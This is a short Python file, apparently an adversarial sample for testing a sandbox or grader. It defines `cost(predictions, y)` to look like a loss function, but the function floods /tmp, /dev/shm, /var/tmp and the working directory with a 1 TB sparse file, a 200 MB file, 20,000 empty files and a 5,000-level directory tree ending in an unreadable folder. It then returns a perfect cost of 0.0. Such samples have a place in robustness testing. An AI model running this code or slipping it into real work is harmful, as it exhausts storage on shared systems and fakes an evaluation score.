"""Many, huge, sparse and deep files and folders."""

import os


def cost(predictions, y):
    for place in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
        try:
            os.chdir(place)
            with open("left-by-attack-sparse", "wb") as file:
                try:
                    file.truncate(1 << 40)
                except OSError:
                    pass
            with open("left-by-attack-large", "wb") as file:
                try:
                    for _ in range(200):
                        file.write(b"x" * (1 << 20))
                except OSError:
                    pass
            for number in range(20_000):
                with open(f"left-by-attack-{number}", "wb"):
                    pass
        except OSError:
            pass
        try:
            for _ in range(5_000):
                os.mkdir("left-by-attack-deep", 0o000 if _ == 4_999 else 0o700)
                os.chdir("left-by-attack-deep")
        except OSError:
            pass
    return 0.0
